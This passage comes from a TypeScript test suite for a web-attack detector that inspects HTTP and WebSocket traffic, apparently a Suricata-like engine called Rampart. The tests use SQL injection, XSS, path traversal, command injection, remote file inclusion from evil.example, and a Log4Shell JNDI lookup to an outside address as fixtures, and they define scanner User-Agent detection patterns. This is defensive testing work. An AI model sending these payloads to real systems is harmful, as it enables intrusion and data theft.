        [SQLI, 7, '/item?id=1+or+1%3D1', 1, 'blocked'],
        [SQLI, 10, '/item?id=2+or+1%3D1', 2, 'blocked'],
      ],
    );
    // The http events number the same transactions (Suricata's tx_id).
    assert.deepEqual(out.events.filter((e) => e.type === 'http').map((e) => (e.type === 'http' ? [e.txId, e.http.url, e.http.status] : [])), [
      [0, '/item?id=0+or+1%3D1', 200],
      [1, '/item?id=1+or+1%3D1', 200],
      [2, '/item?id=2+or+1%3D1', 200],
    ]);
  });

  it('keeps a clean value from its second sighting, serves later copies from the cache, and still inspects a new one of the same length', () => {
    const clean = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0 Rampart/1';
    // Same length as `clean`, so only the content tells them apart.
    const attack = `${"x' OR sleep(5)-- ".padEnd(clean.length - 1, 'x')}x`;
    assert.equal(attack.length, clean.length);
    const out = keepAlive([clean, clean, clean, attack, clean].map((ua) => `GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${ua}\r\n\r\n`));
    assert.deepEqual(seen(out.alerts), [[SQLI, 13, 'header', 'user-agent', CLIENT]]);
    const stats = out.engine.detect.collectStats();
    // The first copy is inspected and only noted, the second inspected and kept (a value met once
    // is never kept); the two clean copies after that are hits, and so are the last three Hosts.
    assert.equal(stats.http_clean_cache_hits, 2 + 3);
  });

  it('reads a command parameter by its name even when its value was kept clean in another field', () => {
    // `whoami` is clean as a search term (kept from its second sighting); as `cmd` it is a web shell's command.
    const out = keepAlive(['/search?q=whoami', '/search?q=whoami', '/search?q=whoami', '/s.php?cmd=whoami'].map((t) => get(t)));
    assert.deepEqual(seen(out.alerts), [[CMDI, 13, 'query', 'cmd', CLIENT]]);
    assert.equal(out.alerts[0].metadata.rule[0], "whoami as the command parameter's value");
  });

  it("lets applications' action names in a cmd argument through (elFinder, PayPal) and a login shell setting", () => {
    const targets = ['/connector?cmd=ls&target=l1_Lw', '/connector?cmd=rm&targets%5B%5D=l1_YS50eHQ', '/connector?cmd=chmod&mode=755', '/cgi-bin/webscr?cmd=_s-xclick&hosted_button_id=X7', '/admin/user?shell=%2Fbin%2Fbash&name=ann', '/run?cmd=search&q=cat+food'];
    assert.deepEqual(seen(keepAlive(targets.map((t) => get(t))).alerts), []);
  });

  it('serves a value kept clean in a request that already raised an alert, and keeps none that such a request read in part', () => {
    const clean = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0 Rampart/2';
    // SQL in the User-Agent that a request with SQL in its query does not look for (one alert per type).
    const unread = "Mozilla/5.0' OR sleep(5)-- x";
    const ask = (q: string, ua: string): string => `GET /item?id=${q} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${ua}\r\n\r\n`;
    const attack = '1+or+1%3D1';
    const out = keepAlive([ask('1', clean), ask('2', clean), ask(attack, clean), ask(attack, unread), ask(attack, unread), ask('3', unread)]);
    assert.deepEqual(seen(out.alerts), [
      [SQLI, 10, 'query', 'id', CLIENT],
      [SQLI, 13, 'query', 'id', CLIENT],
      [SQLI, 16, 'query', 'id', CLIENT],
      [SQLI, 19, 'header', 'user-agent', CLIENT],
    ]);
    // The clean User-Agent of the third request is a hit (so are the last four Hosts); the unread
    // one, met twice in requests that skipped its SQL check, was never kept.
    assert.equal(out.engine.detect.collectStats().http_clean_cache_hits, 1 + 4);
  });

  it('keeps a clean value without the request head it was cut from', () => {
    // A browser sends its session cookie on every request: the cache keeps it from the second one
    // on. Kept as a slice of that request's head, it would hold the whole head (here 32 KB) in
    // memory for as long as it stays cached.
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const heap = (): number => {
      gc();
      gc();
      return getHeapStatistics().used_heap_size;
    };
    // Heap an engine holds after 150 connections of two requests with 32 KB heads, each request
    // with a session id of its connection (kept from the second request on) or of its own (never kept).
    const held = (perConnection: boolean): number => {
      const frames: TestFrame[] = [];
      for (let i = 0; i < 150; i++) {
        const c = new Conn({ t0: T0 + i * 10_000, sport: 20000 + i }).handshake();
        for (let k = 0; k < 2; k++) {
          const sid = (perConnection ? `s${i}` : `s${i}.${k}`).padStart(24, 'x');
          c.send(`GET /a?n=${i} HTTP/1.1\r\nHost: shop.example\r\nCookie: sid=${sid}\r\nAccept: ${`${i}.${k};`.padEnd(32 * 1024, 'q=0.9,')}\r\n\r\n`).serverAck().reply(OK);
        }
        frames.push(...c.close().frames);
      }
      const before = heap();
      const engine = run(frames, 'flow:\n  max_flows: 1024\n').engine;
      const bytes = heap() - before;
      assert.equal(engine.detect.collectStats().http_requests_inspected, 300);
      return bytes;
    };
    held(false);
    const bytes = held(true) - held(false);
    // As slices, the 150 kept session ids held 150 heads of 32 KB (4.9 MB).
    assert.ok(bytes < 1_000_000, `the kept values hold ${bytes} bytes`);
  });

  it("keeps clean paths apart from other values: the path's own checks still see a value clean elsewhere", () => {
    // `/app/..;/manager/html` is clean as an argument (one `..`, no file) and traversal as a path
    // (Tomcat drops the `;` part). Seen twice as an argument it is kept as clean; the path must
    // still be checked, and a path found clean stays so for later requests.
    const targets = ['/go?u=/app/..;/manager/html', '/go?u=/app/..;/manager/html', '/go', '/go', '/go', '/app/..;/manager/html'];
    const out = keepAlive(targets.map((target) => `GET ${target} HTTP/1.1\r\nHost: shop.example\r\n\r\n`));
    assert.deepEqual(seen(out.alerts), [[TRAVERSAL, 19, 'path', '', CLIENT]]);
    assert.equal(out.alerts[0].metadata.rule[0], 'dot-dot segment with a path parameter (..;)');
  });

  it("does not keep a URL as clean because it named the request's own host: on another host it is an inclusion", () => {
    // `page=http://cdn.example/x.php?` is a link back to the site when asked of cdn.example, and a
    // remote file inclusion asked of shop.example: the verdict depends on the host, not the value.
    const hosts = ['cdn.example', 'cdn.example', 'cdn.example', 'shop.example'];
    const out = keepAlive(hosts.map((host) => `GET /index.php?page=http://cdn.example/x.php? HTTP/1.1\r\nHost: ${host}\r\n\r\n`));
    assert.deepEqual(seen(out.alerts), [[TRAVERSAL, 13, 'query', 'page', CLIENT]]);
    assert.equal(out.alerts[0].metadata.rule[0], 'remote file inclusion (URL ending in ?)');
  });

  it('judges an include parameter by its name: a URL of code clean under another name is still an inclusion under page=', () => {
    const targets = ['/go?u=http://evil.example/s.txt', '/go?u=http://evil.example/s.txt', '/go?u=http://evil.example/s.txt', '/index.php?page=http://evil.example/s.txt', '/index.php?page=http://shop.example/s.txt'];
    const out = keepAlive(targets.map((target) => `GET ${target} HTTP/1.1\r\nHost: shop.example\r\n\r\n`));
    assert.deepEqual(seen(out.alerts), [[TRAVERSAL, 13, 'query', 'page', CLIENT]]);
    assert.equal(out.alerts[0].metadata.rule[0], 'remote file inclusion (code or text file URL in page)');
  });

  it('does not keep as clean another reading of a value, which skipped the XSS check', () => {
    // Escaped markup is what a safe page holds, so its decoded reading is not checked for XSS; the
    // same text sent as it is must still be.
    const escaped = '%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B';
    const out = keepAlive([escaped, escaped, '%3Cscript%3Ealert(1)%3C%2Fscript%3E'].map((q) => `GET /search?q=${q} HTTP/1.1\r\nHost: shop.example\r\n\r\n`));
    assert.deepEqual(seen(out.alerts), [[XSS, 10, 'query', 'q', CLIENT]]);
  });

  it('keeps what is clean in a header apart from what is clean elsewhere: each place has checks of its own', () => {
    // A header is also read for a payload appended to its value (sqlmap's), which an argument is
    // not; a User-Agent's `;` between parentheses is a product comment, an argument's a separator.
    const appended = 'sqlmap/1.7.2#stable (https://sqlmap.org)) AND 3721=8385-- TtbA';
    const comment = 'Foo/1.0 (x; wget x)';
    const out = keepAlive([
      `GET /?q=${encodeURIComponent(appended)} HTTP/1.1\r\nHost: shop.example\r\n\r\n`,
      `GET /?q=${encodeURIComponent(appended)} HTTP/1.1\r\nHost: shop.example\r\n\r\n`,
      `GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${appended}\r\n\r\n`,
      `GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${comment}\r\n\r\n`,
      `GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${comment}\r\n\r\n`,
      `GET /?q=${encodeURIComponent(comment)} HTTP/1.1\r\nHost: shop.example\r\n\r\n`,
    ]);
    assert.deepEqual(seen(out.alerts), [
      // sqlmap's own name starts the header: logged beside the injection (an argument is no User-Agent).
      [SCANNER, 10, 'header', 'user-agent', CLIENT],
      [SQLI, 10, 'header', 'user-agent', CLIENT],
      [CMDI, 19, 'query', 'q', CLIENT],
    ]);
  });

  it('inspects what follows max_args arguments, cookies or body fields as one value: padding hides nothing', () => {
    const yaml = 'http:\n  max_args: 8\n';
    const pad = Array.from({ length: 8 }, (_, i) => `p${i}=${i}`);
    const json = `{${pad.map((p) => `"${p.replace('=', '":"')}"`).join(',')},"q":"1' OR '1'='1"}`;
    const b = '----rampartBoundary7MA4YWxk';
    const parts = [...pad.map((p) => `--${b}\r\nContent-Disposition: form-data; name="${p.split('=')[0]}"\r\n\r\nx\r\n`), `--${b}\r\nContent-Disposition: form-data; name="cmd"\r\n\r\n127.0.0.1; id\r\n--${b}--\r\n`].join('');
    const cases: [string, number, string][] = [
      [`GET /s?${pad.join('&')}&q=%27%20OR%201%3D1--%20 HTTP/1.1\r\nHost: shop.example\r\n\r\n`, SQLI, 'query'],
      [`GET / HTTP/1.1\r\nHost: shop.example\r\nCookie: ${pad.join('; ')}; s=%3Cscript%3Ealert(1)%3C%2Fscript%3E\r\n\r\n`, XSS, 'cookie'],
      [post('application/x-www-form-urlencoded', `${pad.join('&')}&f=..%2F..%2F..%2Fetc%2Fpasswd`), TRAVERSAL, 'body'],
      [post('application/json', json), SQLI, 'json'],
      [post(`multipart/form-data; boundary=${b}`, parts), CMDI, 'multipart'],
    ];
    for (const [req, sid, where] of cases) {
      const out = oneRequest(req, yaml);
      assert.deepEqual(seen(out.alerts), [[sid, 4, where, '', CLIENT]], where);
      assert.deepEqual(out.alerts[0].metadata.anomalies, ['too_many_args'], where);
    }
  });

  it("inspects a chunked body's trailer lines, which servers hand to the application, and reads the request after them", () => {
    const head = 'POST /upload HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: chunked\r\nTrailer: X-Api\r\nContent-Type: text/plain\r\n\r\n';
    const c = new Conn({ t0: T0 }).handshake().send(`${head}5\r\nhello\r\n0\r\nX-Api: `).send('${jndi:ldap://198.51.100.7/a}\r\n\r\n').serverAck().reply(OK).send(get('/item?id=5+UNION+SELECT+1,2--')).serverAck().reply(OK).close();
    assert.deepEqual(seen(run(c.frames).alerts), [
      [LOG4SHELL, 5, 'header', 'x-api', CLIENT],
      [SQLI, 8, 'query', 'id', CLIENT],
    ]);
  });

  it('decodes a chunked body whose attack straddles two chunks and two segments', () => {
    const head = 'POST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n';
    const c = new Conn({ t0: T0 }).handshake().send(`${head}b\r\nuser=admin%\r\n`).send('5\r\n27--&\r\n6\r\npass=x\r\n0\r\n\r\n').serverAck().reply(OK).close();
    assert.deepEqual(seen(run(c.frames).alerts), [[SQLI, 5, 'body', 'user', CLIENT]]);
  });

  it('inspects HTTP on a non-standard port, recognised by its content', () => {
    const c = new Conn({ t0: T0, dport: 8081 }).handshake().send(get('/?q=%27+or+%27a%27%3D%27a')).serverAck().reply(OK).close();
    assert.deepEqual(seen(run(c.frames).alerts), [[SQLI, 4, 'query', 'q', CLIENT]]);
  });

  it('picks up a capture that starts mid-connection, at the next request', () => {
    const c = new Conn({ t0: T0 });
    c.send('tail of an earlier body\r\n', 0).send(get('/item?id=5+UNION+SELECT+1,2--')).serverAck().reply(OK).close();
    const out = run(c.frames);
    assert.deepEqual(seen(out.alerts), [[SQLI, 2, 'query', 'id', CLIENT]]);
    // Both directions were picked up without their SYN.
    assert.equal(out.engine.stream.stats.midstream, 2);
  });
});

describe('payload pattern list', () => {
  it("loads the seeds' pattern file and matches its literals on decoded fields", () => {
    const dir = mkdtempSync(join(tmpdir(), 'rampart-web-'));
    try {
      const file = join(dir, 'payload_patterns.json');
      writeFileSync(file, JSON.stringify([' OR 1=1', '<script>', 'DROP TABLE']));
      const out = oneRequest(get('/notes?text=please+drop+table+4'), `detectors:\n  web_attacks:\n    patterns_file: ${JSON.stringify(file)}\n`);
      assert.deepEqual(seen(out.alerts), [[PATTERN, 4, 'query', 'text', CLIENT]]);
      assert.equal(out.alerts[0].signature.msg, 'RAMPART WEB payload pattern "DROP TABLE"');
      assert.equal(out.alerts[0].signature.attackType, 'payload_pattern');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('uses the attack type, message and places an entry gives', () => {
    const dir = mkdtempSync(join(tmpdir(), 'rampart-web-'));
    try {
      const file = join(dir, 'patterns.json');
      writeFileSync(file, JSON.stringify({ patterns: [{ pattern: 'wp-config.php', attack_type: 'recon', msg: 'WordPress config probe', severity: 3, where: ['path', 'query'] }] }));
      const yaml = `detectors:\n  web_attacks:\n    patterns_file: ${JSON.stringify(file)}\n`;
      const out = oneRequest(get('/blog/WP-CONFIG.PHP.bak'), yaml);
      assert.deepEqual(seen(out.alerts), [[PATTERN, 4, 'path', '', CLIENT]]);
      assert.deepEqual([out.alerts[0].signature.attackType, out.alerts[0].signature.msg, out.alerts[0].signature.severity, out.alerts[0].action], ['recon', 'WordPress config probe', 3, 'allowed']);
      assert.deepEqual(oneRequest(get('/', 'Referer: http://x/wp-config.php\r\n'), yaml).alerts, []);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

/** Nmap's User-Agent, on every request of its scripting engine. */
const NMAP_UA = 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)';

function withAgent(target: string, agent: string): string {
  return `GET ${target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${agent}\r\nAccept: */*\r\n\r\n`;
}

describe('web scanners named by their User-Agent', () => {
  it('logs a tool once per source and re-alert interval, at severity 3 and without a block; a second source is logged too', () => {
    const frames: TestFrame[] = [];
    const first = new Conn({ t0: T0 }, frames).handshake();
    for (const path of ['/', '/robots.txt', '/favicon.ico']) first.send(withAgent(path, NMAP_UA)).serverAck().reply(OK);
    first.close();
    // Another source with the same User-Agent, just after: the first one's requests left nothing remembered as clean.
    const second = frames.length;
    new Conn({ t0: T0 + 10_000, client: '10.0.0.22', sport: 40001 }, frames).handshake().send(withAgent('/', NMAP_UA)).serverAck().reply(OK).close();
    // The first source again, past detect.realert (60 s).
    const later = frames.length;
    new Conn({ t0: T0 + 61_000_000, sport: 40002 }, frames).handshake().send(withAgent('/', NMAP_UA)).serverAck().reply(OK).close();
    const out = run(frames);
    assert.deepEqual(seen(out.alerts), [
      [SCANNER, 4, 'header', 'user-agent', CLIENT],
      [SCANNER, second + 4, 'header', 'user-agent', '10.0.0.22'],
      [SCANNER, later + 4, 'header', 'user-agent', CLIENT],
    ]);
    for (const a of out.alerts) {
      assert.equal(a.action, 'allowed');
      assert.equal(a.signature.severity, 3);
      assert.equal(a.signature.attackType, 'web_scanner');
      assert.deepEqual(a.metadata.rule, ["Nmap Scripting Engine's User-Agent"]);
      assert.deepEqual(a.metadata.evidence, [NMAP_UA]);
    }
    assert.equal(out.alerts[0].detail, 'web scanner in header "user-agent": Nmap Scripting Engine\'s User-Agent');
    assert.deepEqual(out.events.filter((e) => e.type === 'block'), []);
  });

  it("names sqlmap beside the injection it appends to its own User-Agent (--level 3): the injection blocks", () => {
    const out = oneRequest(get('/item?id=1').replace(/User-Agent: [^\r]*/, 'User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)) AND 3721=8385-- TtbA'));
    assert.deepEqual(seen(out.alerts), [
      [SCANNER, 4, 'header', 'user-agent', CLIENT],
      [SQLI, 4, 'header', 'user-agent', CLIENT],
    ]);
    assert.deepEqual(out.alerts.map((a) => a.action), ['allowed', 'blocked']);
  });

  it('logs each tool a source runs, as the real ones name themselves (gobuster, then WhatWeb)', () => {
    const out = keepAlive([withAgent('/admin', 'gobuster/3.5'), withAgent('/login', 'gobuster/3.5'), withAgent('/', 'WhatWeb/0.5.5')]);
    assert.deepEqual(
      out.alerts.map((a) => [a.pcapCnt, a.metadata.rule[0]]),
      [
        [4, "gobuster's User-Agent"],
        [10, "WhatWeb's User-Agent"],
      ],
    );
  });

  it('names a tool whose User-Agent is one bare word, which no other check reads (ZmEu)', () => {
    const out = keepAlive([withAgent('/', 'ZmEu'), withAgent('/phpmyadmin/', 'ZmEu')]);
    assert.deepEqual(seen(out.alerts), [[SCANNER, 4, 'header', 'user-agent', CLIENT]]);
    assert.deepEqual(out.alerts[0].metadata.rule, ["ZmEu's User-Agent"]);
  });

  it('says nothing with scanners off, and nothing about clients that name no tool', () => {
    assert.deepEqual(seen(oneRequest(withAgent('/', NMAP_UA), 'detectors:\n  web_attacks:\n    scanners: false\n').alerts), []);
    // An argument of that name is the application's, not the client's name for itself.
    assert.deepEqual(seen(oneRequest(get(`/track?user-agent=${encodeURIComponent(NMAP_UA)}`)).alerts), []);
    for (const agent of ['curl/8.5.0', 'Wget/1.21.3', 'python-requests/2.31.0', 'Go-http-client/1.1', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)']) {
      assert.deepEqual(seen(oneRequest(withAgent('/', agent)).alerts), [], agent);
    }
  });
});

describe('web attacks in WebSocket messages', () => {
  const upgrade = 'GET /ws/chat HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n';
  const accept = 'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n';
  /** Frames 4 (upgrade) and 6 (101), then one segment per message from frame 7 on. */
  function chat(messages: readonly Buffer[], yaml?: string): RunOutput {
    const c = new Conn({ t0: T0 }).handshake().send(upgrade).serverAck().reply(accept);
    for (const m of messages) c.send(m);
    return run(c.close().frames, yaml);
  }
  const attack = '{"type":"search","q":"1\' UNION SELECT password FROM users--"}';

  it('alerts on each message as its own request: its number, its tx_id, the message as payload', () => {
    const out = chat([frame(OP_TEXT, '{"type":"chat","text":"hi"}'), frame(OP_TEXT, attack), frame(OP_TEXT, attack)]);
    assert.deepEqual(seen(out.alerts), [
      [SQLI, 8, 'json', 'q', CLIENT],
      [SQLI, 9, 'json', 'q', CLIENT],
    ]);
    assert.deepEqual(
      out.alerts.map((a) => [a.txId, a.metadata.websocket_message, a.action, a.http?.url, a.http?.status, a.payloadPrintable]),
      [
        [2, ['2'], 'blocked', '/ws/chat', 101, attack],
        [3, ['3'], 'blocked', '/ws/chat', 101, attack],
      ],
    );
    assert.equal(out.alerts[0].detail, 'SQL injection in WebSocket message 2, json "q": union after string break');
  });

  it('finds an attack in a compressed message that reads only against the one before it', () => {
    const first = '{"type":"search","q":"1 UNION SELECT"}';
    const out = chat([frame(OP_TEXT, deflated(first), { rsv1: true }), frame(OP_TEXT, deflated(attack, first), { rsv1: true })]);
    assert.deepEqual(seen(out.alerts), [[SQLI, 8, 'json', 'q', CLIENT]]);
  });

  it("skips the messages of an exempted path, and leaves a chat's ordinary text alone", () => {
    assert.deepEqual(seen(chat([frame(OP_TEXT, attack)], 'detectors:\n  web_attacks:\n    exempt: ["/ws/chat *"]\n').alerts), []);
    const benign = [
      '{"type":"chat","text":"Should we select from the union table or join it? <b>docs</b>"}',
      "It's 1 or 2 rows; don't DROP anything",
      '42["chat",{"text":"<3 the new logo; 5 > 3"}]',
      '{"type":"code","text":"for f in *.log; do gzip \\"$f\\"; done"}',
    ];
    assert.deepEqual(seen(chat(benign.map((m) => frame(OP_TEXT, m))).alerts), []);
  });
});
